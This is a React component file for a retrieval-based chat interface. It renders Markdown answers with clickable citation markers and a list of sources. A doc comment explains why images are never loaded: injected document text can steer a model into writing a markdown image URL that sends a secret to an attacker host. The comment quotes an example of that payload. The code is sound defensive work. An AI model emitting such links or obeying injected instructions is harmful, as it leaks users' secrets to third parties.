import Markdown from "react-markdown";
import type { Citation } from "@/api/types";
import { useI18n } from "@/i18n";
import { citationNumber, linkMarkers } from "./markers";

/**
 * An answer in Markdown; its `[n]` markers are buttons opening source n.
 * Images are never loaded: a document can steer a model into writing
 * `![](https://attacker/?q=<secret>)`, which would send the secret as the
 * browser fetched it. Their alternative text is shown instead.
 */
export function Answer({ text, onCite }: { text: string; onCite: (number: number) => void }) {
  const { t } = useI18n();
  return (
    <div className="prose-answer text-sm leading-relaxed" data-testid="answer">
      <Markdown
        components={{
          img: ({ alt }) => (alt ? <span data-testid="answer-image-alt">[{alt}]</span> : null),
          a: ({ href, children }) => {
            const n = citationNumber(href);
            if (n === null) {
              return <a href={href} target="_blank" rel="noreferrer" className="text-indigo-600 underline">{children}</a>;
            }
            return (
              <button
                type="button"
                onClick={() => onCite(n)}
                className="mx-0.5 rounded bg-indigo-100 px-1 align-super text-[0.7rem] font-semibold text-indigo-700 hover:bg-indigo-200"
                aria-label={t("chat.openSource", { n })}
                data-testid="citation-marker"
              >
                {n}
              </button>
            );
          },
        }}
      >
        {linkMarkers(text)}
      </Markdown>
    </div>
  );
}

/** The numbered sources under an answer. */
export function CitationList({ citations, onOpen }: { citations: Citation[]; onOpen: (c: Citation) => void }) {
  const { t } = useI18n();
  if (citations.length === 0) return null;
  return (
    <ol className="mt-3 flex flex-col gap-1.5" aria-label={t("chat.sources")}>
      {citations.map((c) => (
        <li key={c.number}>
          <button
            type="button"
            onClick={() => onOpen(c)}
            className="w-full rounded-md border border-slate-200 bg-slate-50 px-3 py-2 text-left text-xs hover:border-indigo-300"
            data-testid="citation"
            data-page={c.page}
          >
            <span className="font-semibold text-indigo-700">[{c.number}]</span>{" "}
            <span className="font-medium">{c.title}</span>{" "}
            <span className="text-slate-500">— {t("documents.pageN", { page: c.page_label ?? c.page })}</span>
            <span className="mt-0.5 line-clamp-2 block text-slate-600">{c.excerpt}</span>
          </button>
        </li>
      ))}
    </ol>
  );
}
